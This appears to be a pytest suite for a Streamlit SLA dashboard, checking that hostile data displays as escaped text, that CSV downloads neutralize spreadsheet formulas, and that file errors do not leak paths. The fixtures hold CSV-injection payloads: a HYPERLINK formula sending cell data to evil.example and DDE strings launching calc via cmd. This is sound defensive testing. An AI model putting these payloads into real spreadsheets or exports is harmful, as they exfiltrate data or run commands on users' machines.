"""Hostile content in the data: every page shows it as text (never markdown), every CSV download neutralizes
spreadsheet formulas, and a missing or broken policy file is one line on What-if and Policy history."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from sla_core.safe_csv import formula_cells, frame_csv, neutralize, rows_csv
from sla_store import rollup
from sla_ui.view import plain
from tests.app.conftest import DASHBOARD

IMAGE_TEAM = "![t](http://host/x.png)"
MET_TEAM = "![ok](http://host/ok.png) :red[x] $x$"  # only met items: the drill-down says "No breached ..."
FORMULA_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SUBJECT = "-2+3+cmd|' /C calc'!A0"
PAGES = ["pages/overview.py", "pages/performance.py", "pages/live_queue.py", "pages/trends.py",
         "pages/internal_ops.py", "pages/what_if.py", "pages/policy_history.py", "pages/data.py"]
# Rendered markdown that would fetch, link, colour or typeset: an image or link, a directive, LaTeX.
ACTIVE_MARKDOWN = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\((?<!\\)|(?<!\\):[a-z]+(?<!\\)\[|(?<!\\)\$[^$]+(?<!\\)\$")


@pytest.fixture
def hostile_db(writable_db) -> Path:
    """The fixture database with hostile team, agent and subject values (as an export could carry them)."""
    con = duckdb.connect(str(writable_db))
    for table in ("items", "results"):
        con.execute(f"UPDATE {table} SET team = ? WHERE team = 'onboarding'", [IMAGE_TEAM])
        con.execute(f"UPDATE {table} SET team = ? WHERE team = 'accounts'", [FORMULA_TEAM])
        con.execute(f"UPDATE {table} SET agent = ?", [HOSTILE_AGENT])
    con.execute("UPDATE results SET team = ? WHERE team = 'tech' AND met AND channel = 'email'", [MET_TEAM])
    con.execute("UPDATE items SET subject = ?", [HOSTILE_SUBJECT])
    con.execute("UPDATE rejected_rows SET reason = reason || ' ' || ?", [IMAGE_TEAM])
    rollup.rebuild(con)
    con.close()
    return writable_db


@pytest.fixture
def downloads(monkeypatch) -> list[tuple[str, Callable | bytes | str]]:
    """Every download button's label and data, as the page hands it to Streamlit."""
    seen: list[tuple[str, Callable | bytes | str]] = []
    original = DeltaGenerator.download_button

    def record(self, label, data, *args, **kwargs):
        seen.append((label, data))
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", record)
    import streamlit as st

    monkeypatch.setattr(st, "download_button", lambda *a, **k: record(st._main, *a, **k))
    return seen


def _content(data) -> str:
    value = data() if callable(data) else data
    return value.decode("utf-8") if isinstance(value, bytes) else str(value)


def _cells(csv_text: str) -> set[str]:
    import csv
    import io

    return {cell for row in csv.reader(io.StringIO(csv_text)) for cell in row}


def _texts(at: AppTest) -> list[str]:
    """Everything on the page Streamlit renders as markdown: messages, captions, headers, metric labels."""
    texts = [element.value for kind in ("markdown", "caption", "info", "success", "warning", "error",
                                        "subheader", "header", "title")
             for element in getattr(at, kind)]
    texts += [metric.label for metric in at.metric]
    return texts


def _visit_every_page(at: AppTest) -> None:
    for page in PAGES:
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
        if page == "pages/performance.py":
            for team in (IMAGE_TEAM, FORMULA_TEAM, MET_TEAM):
                at.segmented_control(key="perf_by").set_value("team").run()
                at.selectbox(key="perf_drill").set_value(team).run()
                assert not at.exception
                if team == MET_TEAM:
                    assert [message.value for message in at.success] == [
                        f"No breached resolution items for team {plain(MET_TEAM)}."]
                yield page
        else:
            yield page


def test_every_page_shows_hostile_values_as_text_and_every_csv_download_is_formula_free(
        app_env, hostile_db, downloads):
    app_env(hostile_db)
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.run()
    assert not at.exception
    shown_texts = []
    for _ in _visit_every_page(at):
        shown_texts += _texts(at)
    # The hostile values did reach the screen, escaped ...
    assert any(plain(IMAGE_TEAM) in text for text in shown_texts), "the drill-down message names the team"
    # ... and nothing on any page is markdown that fetches an image, links, colours or typesets data.
    active = [text for text in shown_texts if IMAGE_TEAM in text or MET_TEAM in text
              or ACTIVE_MARKDOWN.search(text) and "http://host" in text]
    assert active == []
    # Every CSV the pages offer, and the report's embedded CSV, holds no formula cell.
    # (The report's PDF is the same HTML printed; its HTML is checked below.)
    tables = [(label, _content(data)) for label, data in downloads if label != "PDF"]
    csvs = [text for label, text in tables if label == "Download CSV"]
    reports = [text for label, text in tables if "report" in label]
    assert len(csvs) >= 8 and reports
    assert any("'" + FORMULA_TEAM in _cells(text) for text in csvs), "the hostile team reached a download"
    for text in csvs:
        assert formula_cells(text) == []
    for html in reports:
        embedded = re.search(r'data:text/csv;base64,([A-Za-z0-9+/=]+)', html)
        assert embedded, "the report embeds its CSV"
        report_csv = base64.b64decode(embedded.group(1)).decode("utf-8")
        assert formula_cells(report_csv) == []
        assert "'" + FORMULA_TEAM in _cells(report_csv)


def test_the_toolbar_export_of_tables_is_off_so_every_download_goes_through_the_neutralizing_button():
    config = (Path(DASHBOARD).parent / ".streamlit" / "config.toml").read_text()
    assert re.search(r"^disableDataExport\s*=\s*true", config, re.M)


@pytest.mark.parametrize("cell, expected", [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-2+3", "'-2+3"), ("-2.5", "-2.5"), ("+3e-4", "+3e-4"), ("plain", "plain"), (None, None),
    (-2.5, -2.5),
])
def test_one_cell_is_neutralized_as_owasp_recommends(cell, expected):
    assert neutralize(cell) == expected


def test_frames_and_rows_written_as_csv_hold_no_formula_cell():
    import polars as pl

    frame = pl.DataFrame({"team": [FORMULA_TEAM, "billing", "@x", "\tTAB"], "change": [-1.5, 2.0, -0.1, 0.0],
                          "text_number": ["-1.5", "+2", "=3", "-x"]})
    text = frame_csv(frame)
    assert formula_cells(text) == []
    assert "-1.5" in text and "'=3" in text and "'-x" in text
    assert formula_cells(rows_csv([["a", "b"], [FORMULA_TEAM, -1.5], ["-1.5", "+cmd"]])) == []
    assert formula_cells(frame.write_csv()) != []  # the check itself finds formulas in an unsafe CSV


@pytest.mark.parametrize("problem", ["missing", "latin-1", "a folder", "invalid YAML"])
@pytest.mark.parametrize("page", ["pages/what_if.py", "pages/policy_history.py"])
def test_a_missing_or_unreadable_policy_file_is_one_line_without_paths(problem, page, app_env, monkeypatch,
                                                                       tmp_path):
    config = tmp_path / "secret-location" / "config"
    config.mkdir(parents=True)
    if problem == "latin-1":
        (config / "sla.yaml").write_bytes("version: 1\n# caf\u00e9\n".encode("latin-1"))
    elif problem == "a folder":
        (config / "sla.yaml").mkdir()
    elif problem == "invalid YAML":
        (config / "sla.yaml").write_text("version: [1\n")
    app_env()
    monkeypatch.setenv("SLA_CONFIG", str(config))
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.run()
    at.switch_page(page).run()
    assert not at.exception
    errors = [error.value for error in at.error]
    assert len(errors) == 1 and len(errors[0].splitlines()) == 1
    assert "config/sla.yaml" in errors[0].replace("\\", "")
    assert "secret-location" not in errors[0] and str(tmp_path) not in errors[0]
    assert "Traceback" not in errors[0] and "Errno" not in errors[0]


@pytest.mark.parametrize("damage", ["corrupt", "folder"])
def test_a_corrupt_database_or_a_folder_is_one_line_on_every_page(damage, app_env, tmp_path):
    bad = tmp_path / "secret-location" / "sla.duckdb"
    bad.parent.mkdir()
    if damage == "corrupt":
        bad.write_bytes(bytes(range(256)) * 400)
    else:
        bad.mkdir()
    app_env(bad)
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.run()
    for page in ["pages/overview.py", "pages/performance.py", "pages/live_queue.py", "pages/trends.py",
                 "pages/internal_ops.py", "pages/data.py"]:
        at.switch_page(page).run()
        assert not at.exception, page
        errors = [error.value for error in at.error]
        assert len(errors) == 1 and errors[0].startswith("sla.duckdb: "), (page, errors)
        assert "secret-location" not in errors[0]
